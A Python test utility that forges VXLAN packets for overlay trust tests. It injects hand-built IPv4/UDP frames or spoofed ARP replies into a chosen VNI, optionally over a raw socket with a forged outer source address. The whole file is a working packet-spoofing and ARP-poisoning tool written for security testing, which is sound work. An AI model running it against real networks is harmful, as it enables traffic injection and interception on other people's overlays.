#!/usr/bin/env python3
"""Forges VXLAN datagrams as an attacker would, for the overlay trust tests (issue 24).

  vxlan-forge.py socket DST VNI INNER...        an ordinary UDP socket (any user may): to DST:4789
  vxlan-forge.py raw OUTER_SRC DST VNI INNER... a raw socket with a forged outer source (root on the underlay)

INNER is one of
  udp DST_MAC SRC_MAC SRC_IP DST_IP DPORT TEXT   an IPv4/UDP frame carrying TEXT
  arp DST_MAC ETH_SRC SENDER_MAC SENDER_IP TARGET_IP
                                                 an ARP reply "SENDER_IP is-at SENDER_MAC" to TARGET_IP
Options: --count N (default 5), --sport P (the outer UDP source port, socket mode).
Only stdlib: struct and sockets.
"""
import argparse
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ipv4(src, dst, proto, payload, ident=0x4242):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, proto, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def udp(sport, dport, payload):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def inner_frame(args):
    kind = args.inner[0]
    if kind == "udp":
        dst_mac, src_mac, src_ip, dst_ip, dport, text = args.inner[1:7]
        packet = ipv4(src_ip, dst_ip, 17, udp(40000, int(dport), text.encode()))
        return mac(dst_mac) + mac(src_mac) + b"\x08\x00" + packet
    if kind == "arp":
        dst_mac, eth_src, sender_mac, sender_ip, target_ip = args.inner[1:6]
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac(sender_mac), socket.inet_aton(sender_ip),
                          mac(dst_mac), socket.inet_aton(target_ip))
        return mac(dst_mac) + mac(eth_src) + b"\x08\x06" + arp
    raise SystemExit("unknown inner frame " + kind)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--count", type=int, default=5)
    parser.add_argument("--sport", type=int, default=0)
    parser.add_argument("--port", type=int, default=4789)
    parser.add_argument("mode", choices=["socket", "raw"])
    parser.add_argument("rest", nargs=argparse.REMAINDER)
    args = parser.parse_args()
    rest = args.rest
    if args.mode == "socket":
        dst, vni, args.inner = rest[0], int(rest[1]), rest[2:]
    else:
        outer_src, dst, vni, args.inner = rest[0], rest[1], int(rest[2]), rest[3:]
    payload = struct.pack("!B3sI", 0x08, b"\0\0\0", vni << 8) + inner_frame(args)
    if args.mode == "socket":
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if args.sport:
            sock.bind(("0.0.0.0", args.sport))
        for _ in range(args.count):
            sock.sendto(payload, (dst, args.port))
            time.sleep(0.05)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        packet = ipv4(outer_src, dst, 17, udp(50000, args.port, payload))
        for _ in range(args.count):
            sock.sendto(packet, (dst, 0))
            time.sleep(0.05)


if __name__ == "__main__":
    main()
